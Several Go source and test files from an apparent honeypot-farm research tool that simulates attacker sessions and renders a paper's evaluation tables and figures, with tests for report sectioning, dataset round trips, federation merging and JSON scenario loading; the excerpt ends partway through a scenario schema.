package honeyfarm

import (
	"fmt"
	"io"
	"sort"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/malware"
	"honeyfarm/internal/report"
)

// defaultTagger tags hashes using the built-in campaign archetypes plus
// the deterministic long-tail assignment.
func defaultTagger() func(string) string {
	return malware.NewTagger(nil)
}

// ReportOptions tunes WriteReport's verbosity.
type ReportOptions struct {
	// SeriesStride subsamples time series rows (default 30 days).
	SeriesStride int
	// RankPoints samples rank curves (default 20 points).
	RankPoints int
}

// WriteReport renders every table and figure of the paper's evaluation
// from the dataset, in order, to w. This is the output of cmd/analyze
// and the body of EXPERIMENTS.md.
func (d *Dataset) WriteReport(w io.Writer, opts ReportOptions) {
	if opts.SeriesStride <= 0 {
		opts.SeriesStride = 30
	}
	if opts.RankPoints <= 0 {
		opts.RankPoints = 20
	}
	section := func(format string, args ...any) {
		fmt.Fprintf(w, "\n== "+format+" ==\n", args...)
	}

	d.Summary(w)

	section("Figure 1: honeypot deployments per country")
	report.DeploymentMatrix(w, d.Deployments, d.Registry)

	section("Table 1: session categories")
	report.Table1(w, d.CategoryShares())

	section("Table 2: top successful passwords")
	report.TopCounted(w, "", "password", d.TopPasswords(10))

	section("Table 3: top commands")
	report.TopCounted(w, "", "command", d.TopCommands(20))

	section("SSH client versions (Section 4's recorded handshake field)")
	report.TopCounted(w, "", "client version", d.TopClientVersions(10))

	hsBySessions := d.HashTable(analysis.BySessions, 20)
	hsByIPs := d.HashTable(analysis.ByClientIPs, 20)
	hsByDays := d.HashTable(analysis.ByDays, 20)
	section("Table 4: top 20 hashes by sessions")
	report.HashTable(w, "", hsBySessions, 20)
	section("Table 5: top 20 hashes by client IPs")
	report.HashTable(w, "", hsByIPs, 20)
	section("Table 6: top 20 hashes by active days")
	report.HashTable(w, "", hsByDays, 20)

	per := d.PerHoneypot()
	section("Figure 2: sessions per honeypot (sorted)")
	report.RankSeries(w, "", analysis.SessionRank(per), opts.RankPoints)

	section("Figure 3: daily sessions per honeypot, top 5%% honeypots")
	report.BandSeries(w, "", d.DailySeries(-1, 0.05), opts.SeriesStride)

	section("Figure 4: daily sessions per honeypot, all honeypots")
	report.BandSeries(w, "", d.DailySeries(-1, 0), opts.SeriesStride)

	section("Figure 6: category shares over time")
	report.CategoryTimeline(w, d.CategoryTimeline(), opts.SeriesStride)

	section("Figure 7: session duration ECDF per category (seconds)")
	durs := d.DurationECDFs()
	for c := analysis.Category(0); c < analysis.NumCategories; c++ {
		report.ECDFSeries(w, fmt.Sprintf("-- %s --", c), durs[c], 10)
	}

	section("Figure 8: per-category daily bands, all honeypots")
	for c := analysis.Category(0); c < analysis.NumCategories; c++ {
		report.BandSeries(w, fmt.Sprintf("-- %s --", c), d.DailySeries(int(c), 0), opts.SeriesStride*2)
	}

	section("Figure 9: per-category daily bands, top 5%% honeypots")
	for c := analysis.Category(0); c < analysis.NumCategories; c++ {
		report.BandSeries(w, fmt.Sprintf("-- %s --", c), d.DailySeries(int(c), 0.05), opts.SeriesStride*2)
	}

	section("Figure 10: client IPs per country (all categories)")
	report.Countries(w, "", d.ClientCountries(nil), 15)
	section("Figure 10(b): client IPs per country (CMD + CMD+URI)")
	report.Countries(w, "", d.ClientCountries(map[Category]bool{Cmd: true, CmdURI: true}), 15)

	section("Figure 23 (appendix): client IPs per country, per category")
	for c := analysis.Category(0); c < analysis.NumCategories; c++ {
		report.Countries(w, fmt.Sprintf("-- %s --", c), d.ClientCountries(map[Category]bool{c: true}), 8)
	}

	section("Figure 11: daily unique client IPs per category")
	daily := d.DailyUniqueClients()
	rows := [][]string{}
	for day := 0; day < len(daily); day += opts.SeriesStride {
		row := []string{fmt.Sprintf("%d", day)}
		for c := analysis.Category(0); c < analysis.NumCategories; c++ {
			row = append(row, fmt.Sprintf("%d", daily[day][c]))
		}
		rows = append(rows, row)
	}
	report.CSV(w, []string{"day", "NO_CRED", "FAIL_LOG", "NO_CMD", "CMD", "CMD+URI"}, rows)

	clients := d.ClientStats(-1)
	section("Figure 12: honeypots contacted per client (ECDF)")
	report.ECDFSeries(w, "", analysis.HoneypotsPerClientECDF(clients), 15)

	section("Figure 13: active days per client (ECDF)")
	report.ECDFSeries(w, "", analysis.ActiveDaysECDF(clients), 15)

	section("Figure 14: clients per honeypot (sorted)")
	clientRank := make([]float64, len(per))
	for i, p := range per {
		clientRank[i] = float64(p.Clients)
	}
	report.RankSeries(w, "", rankDesc(clientRank), opts.RankPoints)

	section("Figure 15: clients per category combination")
	report.Combos(w, d.CategoryCombos())

	section("Figure 16: regional diversity (all categories)")
	report.RegionalDiversity(w, "", d.RegionalDiversity(nil))
	section("Figure 16(b): regional diversity (CMD+URI)")
	report.RegionalDiversity(w, "", d.RegionalDiversity(map[Category]bool{CmdURI: true}))

	section("Figure 24 (appendix): regional diversity per category")
	for c := analysis.Category(0); c < analysis.NumCategories; c++ {
		report.RegionalDiversity(w, fmt.Sprintf("-- %s --", c), d.RegionalDiversity(map[Category]bool{c: true}))
	}

	section("Figure 17: hash freshness")
	report.Freshness(w, d.HashFreshness(), opts.SeriesStride)

	section("Figure 18/19: unique hashes per honeypot (sorted)")
	hashRank := make([]float64, len(per))
	for i, p := range per {
		hashRank[i] = float64(p.Hashes)
	}
	report.RankSeries(w, "", rankDesc(hashRank), opts.RankPoints)
	vis := d.HashVisibility()
	fmt.Fprintf(w, "hash visibility: %d hashes, %.1f%% at a single honeypot, %.1f%% at >10, %d at >half the farm\n",
		vis.Total, 100*vis.Single, 100*vis.MoreThan10, vis.MoreThanHalf)

	section("Figure 20: client IPs per hash (rank)")
	report.RankSeries(w, "", analysis.HashClientRank(d.HashStats()), opts.RankPoints)

	section("Figure 21: hashes per client IP (rank)")
	report.RankSeries(w, "", analysis.ClientHashRank(d.Store), opts.RankPoints)

	section("Figure 22: campaign length ECDF by tag (days)")
	durations := d.CampaignDurations()
	tags := make([]string, 0, len(durations))
	for tag := range durations {
		tags = append(tags, tag)
	}
	sort.Strings(tags)
	for _, tag := range tags {
		e := durations[tag]
		report.ECDFSeries(w, fmt.Sprintf("-- %s (n=%d) --", tag, e.Len()), e, 8)
	}

	section("Extensions: early detection, federation, blocking, notification")
	fl := d.FirstSeenLeaders(10)
	fmt.Fprintf(w, "early detection (Sec 8.4): top-10-by-hashes vs top-10-by-first-sighting overlap = %.0f%%\n", 100*fl.TopOverlap)
	fg := d.FederationGain(4)
	fmt.Fprintf(w, "federation (Discussion): a lone quarter-farm sees %.1f%% of the union's %d hashes, %.1f days later on average\n",
		100*fg.MeanPartShare, fg.UnionHashes, fg.MeanEarliestLagDays)
	bi := d.BlockingImpact(140, 20, 14)
	fmt.Fprintf(w, "blocking what-if (Discussion): %d long-lived small-IP campaigns; blocking 14 days after first sighting prevents %.1f%% of their %d sessions\n",
		bi.Campaigns, 100*bi.PreventableShare, bi.TotalSessions)
	reports := d.AbuseReports(100)
	fmt.Fprintf(w, "notification (Conclusion): %d networks above 100 sessions; top offenders:\n", len(reports))
	for i, r := range reports {
		if i >= 5 {
			break
		}
		fmt.Fprintf(w, "  AS%-6d %s %-11s %6d sessions (%d intrusions), %d IPs, %d hashes\n",
			r.ASN, r.Country, r.Type, r.Sessions, r.IntrusionSessions, r.ClientIPs, r.Hashes)
	}
}

func rankDesc(vals []float64) []float64 {
	out := append([]float64(nil), vals...)
	for i := 1; i < len(out); i++ {
		for j := i; j > 0 && out[j] > out[j-1]; j-- {
			out[j], out[j-1] = out[j-1], out[j]
		}
	}
	return out
}
