package honeyfarm

import (
	"fmt"
	"io"
	"sort"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/malware"
	"honeyfarm/internal/report"
)

// defaultTagger tags hashes using the built-in campaign archetypes plus
// the deterministic long-tail assignment.
func defaultTagger() func(string) string {
	return malware.NewTagger(nil)
}

// ReportOptions tunes WriteReport's verbosity and scope.
type ReportOptions struct {
	// SeriesStride subsamples time series rows (default 30 days).
	SeriesStride int
	// RankPoints samples rank curves (default 20 points).
	RankPoints int
	// Tables selects which report sections to render, by the names
	// ReportTables returns; empty renders everything. Sections render in
	// report order regardless of the order given here, each one
	// byte-identical to its block in the full report. Reduces that no
	// selected section needs are never computed.
	Tables []string
}

// ReportTables returns the section names accepted by
// ReportOptions.Tables (and cmd/analyze's -tables), in report order.
func ReportTables() []string {
	secs := (&Dataset{}).reportSections(ReportOptions{})
	names := make([]string, len(secs))
	for i, s := range secs {
		names[i] = s.name
	}
	return names
}

// reportSection is one named, independently renderable block of the
// report. Rendering a section computes only what that section needs —
// reduces shared between sections (per-pot, hash, client stats) are
// cached on the Dataset, so selecting a subset skips the rest entirely.
type reportSection struct {
	name   string
	render func(w io.Writer)
}

// WriteReport renders the tables and figures of the paper's evaluation
// from the dataset, in order, to w. This is the output of cmd/analyze
// and the body of EXPERIMENTS.md. With opts.Tables set, only the named
// sections are rendered (unknown names are ignored; cmd/analyze
// validates against ReportTables before calling).
func (d *Dataset) WriteReport(w io.Writer, opts ReportOptions) {
	if opts.SeriesStride <= 0 {
		opts.SeriesStride = 30
	}
	if opts.RankPoints <= 0 {
		opts.RankPoints = 20
	}
	selected := map[string]bool{}
	for _, name := range opts.Tables {
		selected[name] = true
	}
	for _, s := range d.reportSections(opts) {
		if len(selected) > 0 && !selected[s.name] {
			continue
		}
		s.render(w)
	}
}

// reportSections builds the ordered section list. All computation lives
// inside the render closures; building the list is free.
func (d *Dataset) reportSections(opts ReportOptions) []reportSection {
	section := func(w io.Writer, format string, args ...any) {
		fmt.Fprintf(w, "\n== "+format+" ==\n", args...)
	}
	return []reportSection{
		{"summary", func(w io.Writer) {
			d.Summary(w)
		}},
		{"figure1", func(w io.Writer) {
			section(w, "Figure 1: honeypot deployments per country")
			report.DeploymentMatrix(w, d.Deployments, d.Registry)
		}},
		{"table1", func(w io.Writer) {
			section(w, "Table 1: session categories")
			report.Table1(w, d.CategoryShares())
		}},
		{"table2", func(w io.Writer) {
			section(w, "Table 2: top successful passwords")
			report.TopCounted(w, "", "password", d.TopPasswords(10))
		}},
		{"table3", func(w io.Writer) {
			section(w, "Table 3: top commands")
			report.TopCounted(w, "", "command", d.TopCommands(20))
		}},
		{"versions", func(w io.Writer) {
			section(w, "SSH client versions (Section 4's recorded handshake field)")
			report.TopCounted(w, "", "client version", d.TopClientVersions(10))
		}},
		{"table4", func(w io.Writer) {
			section(w, "Table 4: top 20 hashes by sessions")
			report.HashTable(w, "", d.HashTable(analysis.BySessions, 20), 20)
		}},
		{"table5", func(w io.Writer) {
			section(w, "Table 5: top 20 hashes by client IPs")
			report.HashTable(w, "", d.HashTable(analysis.ByClientIPs, 20), 20)
		}},
		{"table6", func(w io.Writer) {
			section(w, "Table 6: top 20 hashes by active days")
			report.HashTable(w, "", d.HashTable(analysis.ByDays, 20), 20)
		}},
		{"figure2", func(w io.Writer) {
			section(w, "Figure 2: sessions per honeypot (sorted)")
			report.RankSeries(w, "", analysis.SessionRank(d.PerHoneypot()), opts.RankPoints)
		}},
		{"figure3", func(w io.Writer) {
			section(w, "Figure 3: daily sessions per honeypot, top 5%% honeypots")
			report.BandSeries(w, "", d.DailySeries(-1, 0.05), opts.SeriesStride)
		}},
		{"figure4", func(w io.Writer) {
			section(w, "Figure 4: daily sessions per honeypot, all honeypots")
			report.BandSeries(w, "", d.DailySeries(-1, 0), opts.SeriesStride)
		}},
		{"figure6", func(w io.Writer) {
			section(w, "Figure 6: category shares over time")
			report.CategoryTimeline(w, d.CategoryTimeline(), opts.SeriesStride)
		}},
		{"figure7", func(w io.Writer) {
			section(w, "Figure 7: session duration ECDF per category (seconds)")
			durs := d.DurationECDFs()
			for c := analysis.Category(0); c < analysis.NumCategories; c++ {
				report.ECDFSeries(w, fmt.Sprintf("-- %s --", c), durs[c], 10)
			}
		}},
		{"figure8", func(w io.Writer) {
			section(w, "Figure 8: per-category daily bands, all honeypots")
			for c := analysis.Category(0); c < analysis.NumCategories; c++ {
				report.BandSeries(w, fmt.Sprintf("-- %s --", c), d.DailySeries(int(c), 0), opts.SeriesStride*2)
			}
		}},
		{"figure9", func(w io.Writer) {
			section(w, "Figure 9: per-category daily bands, top 5%% honeypots")
			for c := analysis.Category(0); c < analysis.NumCategories; c++ {
				report.BandSeries(w, fmt.Sprintf("-- %s --", c), d.DailySeries(int(c), 0.05), opts.SeriesStride*2)
			}
		}},
		{"figure10", func(w io.Writer) {
			section(w, "Figure 10: client IPs per country (all categories)")
			report.Countries(w, "", d.ClientCountries(nil), 15)
		}},
		{"figure10b", func(w io.Writer) {
			section(w, "Figure 10(b): client IPs per country (CMD + CMD+URI)")
			report.Countries(w, "", d.ClientCountries(map[Category]bool{Cmd: true, CmdURI: true}), 15)
		}},
		{"figure23", func(w io.Writer) {
			section(w, "Figure 23 (appendix): client IPs per country, per category")
			for c := analysis.Category(0); c < analysis.NumCategories; c++ {
				report.Countries(w, fmt.Sprintf("-- %s --", c), d.ClientCountries(map[Category]bool{c: true}), 8)
			}
		}},
		{"figure11", func(w io.Writer) {
			section(w, "Figure 11: daily unique client IPs per category")
			daily := d.DailyUniqueClients()
			rows := [][]string{}
			for day := 0; day < len(daily); day += opts.SeriesStride {
				row := []string{fmt.Sprintf("%d", day)}
				for c := analysis.Category(0); c < analysis.NumCategories; c++ {
					row = append(row, fmt.Sprintf("%d", daily[day][c]))
				}
				rows = append(rows, row)
			}
			report.CSV(w, []string{"day", "NO_CRED", "FAIL_LOG", "NO_CMD", "CMD", "CMD+URI"}, rows)
		}},
		{"figure12", func(w io.Writer) {
			section(w, "Figure 12: honeypots contacted per client (ECDF)")
			report.ECDFSeries(w, "", analysis.HoneypotsPerClientECDF(d.ClientStats(-1)), 15)
		}},
		{"figure13", func(w io.Writer) {
			section(w, "Figure 13: active days per client (ECDF)")
			report.ECDFSeries(w, "", analysis.ActiveDaysECDF(d.ClientStats(-1)), 15)
		}},
		{"figure14", func(w io.Writer) {
			section(w, "Figure 14: clients per honeypot (sorted)")
			per := d.PerHoneypot()
			clientRank := make([]float64, len(per))
			for i, p := range per {
				clientRank[i] = float64(p.Clients)
			}
			report.RankSeries(w, "", rankDesc(clientRank), opts.RankPoints)
		}},
		{"figure15", func(w io.Writer) {
			section(w, "Figure 15: clients per category combination")
			report.Combos(w, d.CategoryCombos())
		}},
		{"figure16", func(w io.Writer) {
			section(w, "Figure 16: regional diversity (all categories)")
			report.RegionalDiversity(w, "", d.RegionalDiversity(nil))
		}},
		{"figure16b", func(w io.Writer) {
			section(w, "Figure 16(b): regional diversity (CMD+URI)")
			report.RegionalDiversity(w, "", d.RegionalDiversity(map[Category]bool{CmdURI: true}))
		}},
		{"figure24", func(w io.Writer) {
			section(w, "Figure 24 (appendix): regional diversity per category")
			for c := analysis.Category(0); c < analysis.NumCategories; c++ {
				report.RegionalDiversity(w, fmt.Sprintf("-- %s --", c), d.RegionalDiversity(map[Category]bool{c: true}))
			}
		}},
		{"figure17", func(w io.Writer) {
			section(w, "Figure 17: hash freshness")
			report.Freshness(w, d.HashFreshness(), opts.SeriesStride)
		}},
		{"figure18", func(w io.Writer) {
			section(w, "Figure 18/19: unique hashes per honeypot (sorted)")
			per := d.PerHoneypot()
			hashRank := make([]float64, len(per))
			for i, p := range per {
				hashRank[i] = float64(p.Hashes)
			}
			report.RankSeries(w, "", rankDesc(hashRank), opts.RankPoints)
			vis := d.HashVisibility()
			fmt.Fprintf(w, "hash visibility: %d hashes, %.1f%% at a single honeypot, %.1f%% at >10, %d at >half the farm\n",
				vis.Total, 100*vis.Single, 100*vis.MoreThan10, vis.MoreThanHalf)
		}},
		{"figure20", func(w io.Writer) {
			section(w, "Figure 20: client IPs per hash (rank)")
			report.RankSeries(w, "", analysis.HashClientRank(d.HashStats()), opts.RankPoints)
		}},
		{"figure21", func(w io.Writer) {
			section(w, "Figure 21: hashes per client IP (rank)")
			report.RankSeries(w, "", analysis.ClientHashRank(d.Store), opts.RankPoints)
		}},
		{"figure22", func(w io.Writer) {
			section(w, "Figure 22: campaign length ECDF by tag (days)")
			durations := d.CampaignDurations()
			tags := make([]string, 0, len(durations))
			for tag := range durations {
				tags = append(tags, tag)
			}
			sort.Strings(tags)
			for _, tag := range tags {
				e := durations[tag]
				report.ECDFSeries(w, fmt.Sprintf("-- %s (n=%d) --", tag, e.Len()), e, 8)
			}
		}},
		{"extensions", func(w io.Writer) {
			section(w, "Extensions: early detection, federation, blocking, notification")
			fl := d.FirstSeenLeaders(10)
			fmt.Fprintf(w, "early detection (Sec 8.4): top-10-by-hashes vs top-10-by-first-sighting overlap = %.0f%%\n", 100*fl.TopOverlap)
			fg := d.FederationGain(4)
			fmt.Fprintf(w, "federation (Discussion): a lone quarter-farm sees %.1f%% of the union's %d hashes, %.1f days later on average\n",
				100*fg.MeanPartShare, fg.UnionHashes, fg.MeanEarliestLagDays)
			bi := d.BlockingImpact(140, 20, 14)
			fmt.Fprintf(w, "blocking what-if (Discussion): %d long-lived small-IP campaigns; blocking 14 days after first sighting prevents %.1f%% of their %d sessions\n",
				bi.Campaigns, 100*bi.PreventableShare, bi.TotalSessions)
			reports := d.AbuseReports(100)
			fmt.Fprintf(w, "notification (Conclusion): %d networks above 100 sessions; top offenders:\n", len(reports))
			for i, r := range reports {
				if i >= 5 {
					break
				}
				fmt.Fprintf(w, "  AS%-6d %s %-11s %6d sessions (%d intrusions), %d IPs, %d hashes\n",
					r.ASN, r.Country, r.Type, r.Sessions, r.IntrusionSessions, r.ClientIPs, r.Hashes)
			}
		}},
	}
}

func rankDesc(vals []float64) []float64 {
	out := append([]float64(nil), vals...)
	for i := 1; i < len(out); i++ {
		for j := i; j > 0 && out[j] > out[j-1]; j-- {
			out[j], out[j-1] = out[j-1], out[j]
		}
	}
	return out
}
