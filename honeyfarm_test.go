package honeyfarm

import (
	"bytes"
	"strings"
	"testing"

	"honeyfarm/internal/analysis"
)

// smallDataset is shared by the facade tests.
var smallDataset *Dataset

func testDataset(t testing.TB) *Dataset {
	t.Helper()
	if smallDataset != nil {
		return smallDataset
	}
	d, err := Simulate(SimulateConfig{Seed: 7, TotalSessions: 40_000, Days: 120})
	if err != nil {
		t.Fatal(err)
	}
	smallDataset = d
	return d
}

func TestSimulateBasics(t *testing.T) {
	d := testDataset(t)
	if d.Sessions() < 30_000 {
		t.Fatalf("sessions = %d", d.Sessions())
	}
	if d.Days() == 0 || d.Days() > 120 {
		t.Errorf("days = %d", d.Days())
	}
	if len(d.Deployments) != 221 {
		t.Errorf("deployments = %d", len(d.Deployments))
	}
}

func TestDatasetArtifacts(t *testing.T) {
	d := testDataset(t)
	cs := d.CategoryShares()
	if cs.Total != d.Sessions() {
		t.Errorf("total mismatch: %d vs %d", cs.Total, d.Sessions())
	}
	if len(d.TopPasswords(10)) != 10 {
		t.Error("top passwords short")
	}
	if len(d.TopCommands(20)) == 0 {
		t.Error("no commands")
	}
	if len(d.HashTable(analysis.BySessions, 20)) != 20 {
		t.Error("hash table short")
	}
	if got := d.DailySeries(-1, 0); len(got.Bands) != d.Days() {
		t.Errorf("series bands = %d", len(got.Bands))
	}
	if got := d.DailySeries(int(FailLog), 0.05); len(got.Bands) != d.Days() {
		t.Errorf("top-5%% series bands = %d", len(got.Bands))
	}
	if v := d.HashVisibility(); v.Total == 0 {
		t.Error("no hashes")
	}
	if len(d.CampaignDurations()) < 3 {
		t.Error("too few campaign tags")
	}
	if len(d.ClientCountries(nil)) < 20 {
		t.Error("too few countries")
	}
	if rd := d.RegionalDiversity(nil); len(rd.Clients) != d.Days() {
		t.Error("regional diversity days mismatch")
	}
}

func TestSaveLoadRoundTrip(t *testing.T) {
	d := testDataset(t)
	var buf bytes.Buffer
	if err := d.Save(&buf); err != nil {
		t.Fatal(err)
	}
	loaded, err := LoadDataset(&buf, d.Registry, d.NumPots, 7)
	if err != nil {
		t.Fatal(err)
	}
	if loaded.Sessions() != d.Sessions() {
		t.Fatalf("sessions: %d vs %d", loaded.Sessions(), d.Sessions())
	}
	// Same classification results after round trip.
	a := d.CategoryShares()
	b := loaded.CategoryShares()
	for c := Category(0); c < analysis.NumCategories; c++ {
		if a.Overall[c] != b.Overall[c] {
			t.Errorf("%v share changed after reload", c)
		}
	}
}

func TestWriteReport(t *testing.T) {
	d := testDataset(t)
	var buf bytes.Buffer
	d.WriteReport(&buf, ReportOptions{})
	out := buf.String()
	for _, want := range []string{
		"Table 1", "Table 2", "Table 3", "Table 4", "Table 5", "Table 6",
		"Figure 2", "Figure 3", "Figure 4", "Figure 6", "Figure 7",
		"Figure 8", "Figure 9", "Figure 10", "Figure 11", "Figure 12",
		"Figure 13", "Figure 14", "Figure 15", "Figure 16", "Figure 17",
		"Figure 18", "Figure 20", "Figure 21", "Figure 22",
		"NO_CRED", "trojan", "hash visibility",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("report missing %q", want)
		}
	}
}

func TestClassifyFacade(t *testing.T) {
	r := &SessionRecord{}
	if Classify(r) != NoCred {
		t.Error("facade Classify broken")
	}
}

func TestNewFarmFacade(t *testing.T) {
	f, err := NewFarm(FarmConfig{Seed: 3, NumPots: 60})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}
	defer f.Stop()
	if len(f.Deployments()) != 60 {
		t.Errorf("deployments = %d", len(f.Deployments()))
	}
}

func TestMergeFederation(t *testing.T) {
	a, err := Simulate(SimulateConfig{Seed: 1, TotalSessions: 6000, Days: 20, NumPots: 8})
	if err != nil {
		t.Fatal(err)
	}
	b, err := Simulate(SimulateConfig{Seed: 2, TotalSessions: 6000, Days: 20, NumPots: 8})
	if err != nil {
		t.Fatal(err)
	}
	aSessions, bSessions := a.Sessions(), b.Sessions()
	aHashes := len(a.HashStats())

	a.Merge(b)
	if a.Sessions() != aSessions+bSessions {
		t.Fatalf("sessions = %d, want %d", a.Sessions(), aSessions+bSessions)
	}
	if a.NumPots != 16 || len(a.Deployments) != 16 {
		t.Errorf("pots = %d deployments = %d, want 16", a.NumPots, len(a.Deployments))
	}
	// Honeypot IDs from b are offset into 8..15.
	per := a.PerHoneypot()
	if len(per) != 16 {
		t.Fatalf("per = %d", len(per))
	}
	for i := 8; i < 16; i++ {
		if per[i].Sessions == 0 {
			t.Errorf("merged honeypot %d has no sessions", i)
		}
	}
	// Federation widens hash visibility (caches were invalidated).
	if got := len(a.HashStats()); got < aHashes {
		t.Errorf("merged hashes = %d, want ≥ %d", got, aHashes)
	}
	// b's records were copied, not aliased.
	if b.Store.Records()[0].HoneypotID >= 8 {
		t.Error("merge mutated the source dataset")
	}
}
