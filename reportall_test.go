package honeyfarm

import (
	"bytes"
	"io"
	"path/filepath"
	"strings"
	"testing"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/atomicio"
	"honeyfarm/internal/store"
)

// TestReportTablesPartitionFullReport: rendering every section one at a
// time, in order, must reproduce the full report byte for byte — i.e.
// the named sections partition the report and each selected block is
// byte-identical to the full run's corresponding block.
func TestReportTablesPartitionFullReport(t *testing.T) {
	d := testDataset(t)
	opts := ReportOptions{SeriesStride: 60, RankPoints: 10}

	var full bytes.Buffer
	d.WriteReport(&full, opts)

	names := ReportTables()
	if len(names) < 20 {
		t.Fatalf("ReportTables returned only %d names", len(names))
	}
	var concat bytes.Buffer
	for _, name := range names {
		sel := opts
		sel.Tables = []string{name}
		d.WriteReport(&concat, sel)
	}
	if !bytes.Equal(full.Bytes(), concat.Bytes()) {
		t.Fatalf("per-table renders do not concatenate to the full report (full %d bytes, concat %d bytes)",
			full.Len(), concat.Len())
	}
}

// TestReportTablesSelection: a -tables selection renders exactly the
// requested blocks, in report order regardless of request order, and
// each block matches the full run's bytes.
func TestReportTablesSelection(t *testing.T) {
	d := testDataset(t)
	opts := ReportOptions{SeriesStride: 60, RankPoints: 10}

	var full bytes.Buffer
	d.WriteReport(&full, opts)

	render := func(tables ...string) []byte {
		sel := opts
		sel.Tables = tables
		var buf bytes.Buffer
		d.WriteReport(&buf, sel)
		return buf.Bytes()
	}

	table1 := render("table1")
	fig15 := render("figure15")
	for name, block := range map[string][]byte{"table1": table1, "figure15": fig15} {
		if len(block) == 0 || !bytes.Contains(full.Bytes(), block) {
			t.Fatalf("selected %s block (%d bytes) is not a block of the full report", name, len(block))
		}
	}
	// Request order must not matter: output is always report order.
	got := render("figure15", "table1")
	want := append(append([]byte(nil), table1...), fig15...)
	if !bytes.Equal(got, want) {
		t.Fatalf("multi-table selection not rendered in report order:\n%.200s", got)
	}
}

// TestWriteReportEmptyDataset: a dataset with zero sessions must render
// the full report without panicking or emitting NaN — the state a
// just-started farm (or an empty WAL) presents to cmd/analyze.
func TestWriteReportEmptyDataset(t *testing.T) {
	d := &Dataset{
		Store:    store.New(DefaultEpoch),
		Registry: NewRegistry(1),
		NumPots:  4,
		tagger:   analysis.Tagger(defaultTagger()),
	}
	var buf bytes.Buffer
	d.WriteReport(&buf, ReportOptions{})
	out := buf.String()
	if !strings.Contains(out, "dataset: 0 sessions") {
		t.Fatalf("summary line missing:\n%.200s", out)
	}
	if strings.Contains(out, "NaN") || strings.Contains(out, "Inf") {
		t.Fatal("empty dataset report contains NaN/Inf")
	}
}

// TestReportUnwritableOutputDir: writing a report into a directory that
// does not exist (or cannot be created into) must surface an error, not
// strand a partial file — the path cmd/reproduce's -out takes.
func TestReportUnwritableOutputDir(t *testing.T) {
	d := testDataset(t)
	path := filepath.Join(t.TempDir(), "no", "such", "dir", "report.txt")
	err := atomicio.WriteFile(path, func(w io.Writer) error {
		d.WriteReport(w, ReportOptions{Tables: []string{"summary"}})
		return nil
	})
	if err == nil {
		t.Fatal("WriteFile into a missing directory succeeded")
	}
}
