package scenario

import (
	"strings"
	"testing"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/geo"
	"honeyfarm/internal/workload"
)

func TestLoadDefaults(t *testing.T) {
	cfg, err := Load(strings.NewReader(`{"seed": 7, "total_sessions": 1000}`))
	if err != nil {
		t.Fatal(err)
	}
	if cfg.Seed != 7 || cfg.TotalSessions != 1000 || cfg.Shares != nil || cfg.Spikes != nil {
		t.Errorf("cfg = %+v", cfg)
	}
}

func TestLoadFullScenario(t *testing.T) {
	js := `{
		"seed": 3, "total_sessions": 5000, "days": 60, "pots": 20,
		"category_shares": {"NO_CRED": 0.5, "FAIL_LOG": 0.25, "NO_CMD": 0.05, "CMD": 0.19, "CMD+URI": 0.01},
		"ssh_shares": {"NO_CRED": 0.9},
		"spikes": [{"category": "FAIL_LOG", "first_day": 10, "last_day": 12, "multiplier": 4, "pots": 2}],
		"disable_campaigns": true
	}`
	cfg, err := Load(strings.NewReader(js))
	if err != nil {
		t.Fatal(err)
	}
	if cfg.Shares == nil || cfg.Shares[analysis.NoCred] != 0.5 {
		t.Errorf("shares = %v", cfg.Shares)
	}
	if cfg.SSHShares == nil || cfg.SSHShares[analysis.NoCred] != 0.9 {
		t.Errorf("ssh shares = %v", cfg.SSHShares)
	}
	// Unspecified SSH shares keep the paper values.
	if cfg.SSHShares[analysis.FailLog] != workload.SSHShare[analysis.FailLog] {
		t.Error("unspecified ssh share should keep default")
	}
	if len(cfg.Spikes) != 1 || cfg.Spikes[0].Category != analysis.FailLog || cfg.Spikes[0].Multiplier != 4 {
		t.Errorf("spikes = %+v", cfg.Spikes)
	}
	if !cfg.DisableCampaigns {
		t.Error("disable_campaigns lost")
	}

	// The scenario actually drives generation.
	cfg.Registry = geo.NewRegistry(geo.Config{Seed: 1})
	res, err := workload.Generate(cfg)
	if err != nil {
		t.Fatal(err)
	}
	shares := analysis.ComputeCategoryShares(res.Store)
	if shares.Overall[analysis.NoCred] < 0.42 || shares.Overall[analysis.NoCred] > 0.58 {
		t.Errorf("scenario NO_CRED share = %.3f, want ≈0.5", shares.Overall[analysis.NoCred])
	}
	if shares.SSHShareOfCategory[analysis.NoCred] < 0.85 {
		t.Errorf("scenario NO_CRED ssh share = %.3f, want ≈0.9", shares.SSHShareOfCategory[analysis.NoCred])
	}
}

func TestLoadErrors(t *testing.T) {
	cases := []string{
		`{"unknown_field": 1}`,
		`{"category_shares": {"BOGUS": 0.5}}`,
		`{"category_shares": {"NO_CRED": 1.5}}`,
		`{"category_shares": {"NO_CRED": 0.9}}`, // sums far above 1
		`{"spikes": [{"category": "NOPE", "first_day": 0, "last_day": 1, "multiplier": 2}]}`,
		`{"spikes": [{"category": "CMD", "first_day": 5, "last_day": 1, "multiplier": 2}]}`,
		`{"spikes": [{"category": "CMD", "first_day": 1, "last_day": 2, "multiplier": 0}]}`,
		`not json`,
	}
	for _, js := range cases {
		if _, err := Load(strings.NewReader(js)); err == nil {
			t.Errorf("scenario %q should fail", js)
		}
	}
}

func TestLoadFileMissing(t *testing.T) {
	if _, err := LoadFile("/no/such/scenario.json"); err == nil {
		t.Fatal("missing file should error")
	}
}
