// Package scenario loads workload configurations from JSON, so
// cmd/honeyfarm can generate alternative Internets — different category
// mixes, spike schedules, or campaign-free ablations — without
// recompiling. The zero scenario is the paper's calibration.
package scenario

import (
	"encoding/json"
	"fmt"
	"io"
	"os"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/faults"
	"honeyfarm/internal/workload"
)

// Scenario is the JSON schema.
type Scenario struct {
	Seed          int64 `json:"seed"`
	TotalSessions int   `json:"total_sessions"`
	Days          int   `json:"days"`
	Pots          int   `json:"pots"`
	// CategoryShares maps category names (NO_CRED, FAIL_LOG, NO_CMD,
	// CMD, CMD+URI) to session fractions. Empty keeps the paper's mix.
	CategoryShares map[string]float64 `json:"category_shares,omitempty"`
	// SSHShares maps category names to the SSH fraction within the
	// category. Empty keeps the paper's Table 1 splits.
	SSHShares map[string]float64 `json:"ssh_shares,omitempty"`
	Spikes    []Spike            `json:"spikes,omitempty"`
